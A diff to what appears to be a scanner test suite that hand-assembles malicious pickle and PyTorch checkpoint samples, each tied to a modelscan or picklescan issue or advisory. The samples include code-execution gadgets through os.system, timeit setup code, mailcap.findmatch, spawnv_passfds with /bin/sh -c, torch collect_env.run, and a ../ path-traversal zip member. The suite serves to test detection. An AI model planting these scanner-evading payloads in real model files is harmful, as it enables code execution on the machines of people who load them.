@@ -127,7 +127,7 @@ def _payload_pickles(marker: Path) -> dict[str, tuple[str, bytes, bool]]:
     # modelscan#85: BUILD sets attributes on numpy.prod, then STACK_GLOBAL of those attributes
     out["modelscan85_build_attrs"] = (
         "modelscan#85 BUILD on a global + dotted GLOBAL + memo STACK_GLOBAL",
-        b"\x80\x05" + g0("numpy", "prod") + b"N(Va\nVos\ndb" + b"N(Vb\nVsystem\ndb" + b"0"
+        b"\x80\x05" + g0("numpy", "prod") + b"N(Va\nVos\nd\x86b" + b"N(Vb\nVsystem\nd\x86b" + b"0"
         + g0("numpy", "prod.a") + b"p0\n" + g0("numpy", "prod.b") + b"p1\n" + b"00"
         + b"g0\ng1\n\x93V" + cmd.encode() + b"\n\x85R.", True)
     # modelscan#330: numpy.__builtins__ through BUILD/STACK_GLOBAL, then eval
@@ -155,9 +155,9 @@ def _payload_pickles(marker: Path) -> dict[str, tuple[str, bytes, bool]]:
         "picklescan PR#74 marshal.loads + types.FunctionType",
         P4 + sg("types", "FunctionType") + sg("marshal", "loads") + sbytes(blob) + b"\x85R"
         + b"}\x86R)R" + STOP, True)
-    out["pip_main"] = ("pip.main (writes its log to the marker)",
+    out["pip_main"] = ("pip.main (pip list, writing its log to the marker)",
                        P4 + sg("pip", "main") + b"](" + u("--log") + u(str(marker))
-                       + u("--version") + b"e\x85R" + STOP, True)
+                       + u("list") + b"e\x85R" + STOP, True)
     out["numpy_runstring"] = ("numpy.testing._private.utils.runstring",
                               P4 + sg("numpy.testing._private.utils", "runstring") + u(code)
                               + b"}\x86R" + STOP, True)
@@ -191,9 +191,26 @@ def _payload_pickles(marker: Path) -> dict[str, tuple[str, bytes, bool]]:
     out["functools_partial"] = ("functools.partial wrapper",
                                 P4 + sg("functools", "partial") + sg("os", "system") + u(cmd)
                                 + b"\x86R)R" + STOP, True)
-    out["timeit_timeit"] = ("timeit.timeit (picklescan GHSA)",
-                            P4 + sg("timeit", "timeit") + u(f"__import__('os').system({cmd!r})")
-                            + b"\x85R" + STOP, True)
+    out["timeit_timeit"] = ("timeit.timeit (picklescan GHSA): the payload is the setup code",
+                            P4 + sg("timeit", "timeit") + u("pass")
+                            + u(f"__import__('os').system({cmd!r})") + b"\x86R" + STOP, True)
+    out["mailcap_findmatch"] = (
+        "mailcap.findmatch runs a 'test' command (modelscan PR#346)",
+        P4 + sg("mailcap", "findmatch") + b"}" + u("text/plain") + b"]}(" + u("view") + u("x")
+        + u("test") + u(cmd) + b"uas" + u("text/plain") + b"\x86R" + STOP, True)
+    out["spawnv_passfds"] = (
+        "multiprocessing.util.spawnv_passfds (modelscan#338)",
+        P4 + sg("multiprocessing.util", "spawnv_passfds") + sbytes(b"/bin/sh") + u("/bin/sh")
+        + u("-c") + u(cmd) + b"\x87" + b")\x87R" + STOP, True)
+    out["sqlite3_connect"] = ("sqlite3.connect creates a file",
+                              P4 + sg("sqlite3", "connect") + u(str(marker)) + b"\x85R" + STOP,
+                              True)
+    out["zipfile_write"] = ("zipfile.ZipFile(path, 'w') creates a file",
+                            P4 + sg("zipfile", "ZipFile") + u(str(marker)) + u("w") + b"\x86R"
+                            + STOP, True)
+    out["torch_collect_env_run"] = ("torch.utils.collect_env.run (modelscan#338)",
+                                    P4 + sg("torch.utils.collect_env", "run") + u(cmd) + b"\x85R"
+                                    + STOP, True)
     out["shutil_copyfile"] = ("shutil.copyfile writes a file",
                               P4 + sg("shutil", "copyfile") + u(os.devnull) + u(str(marker))
                               + b"\x86R" + STOP, True)
@@ -382,7 +399,8 @@ def _torch_samples(root: Path, marker: Path, evil: bytes) -> list[Sample]:
     out.append(Sample("torch_zip_bad_crc", "CRC of data.pkl corrupted (CVE-2025-10156)",
                       _patch_zip(_rezip(z, root / "bad_crc.pt"), "data.pkl", crc=True), "torch"))
     out.append(Sample("torch_zip_encrypted_flag", "encrypted flag bit set (GHSA-w8jq-xcqf-f792)",
-                      _patch_zip(_rezip(z, root / "flag.pt"), "data.pkl", flag=True), "torch"))
+                      _patch_zip(_rezip(z, root / "flag.pt"), "data.pkl", flag=True), "torch",
+                      live=False))  # torch 2.13 refuses it; older readers ignored the flag
     out.append(Sample("torch_zip_dotdot_member", "checkpoint with a ../ member name",
                       _rezip(clean, root / "dotdot.pt", extra={"../../../tmp/x.pkl": evil}),
                       "none", False))
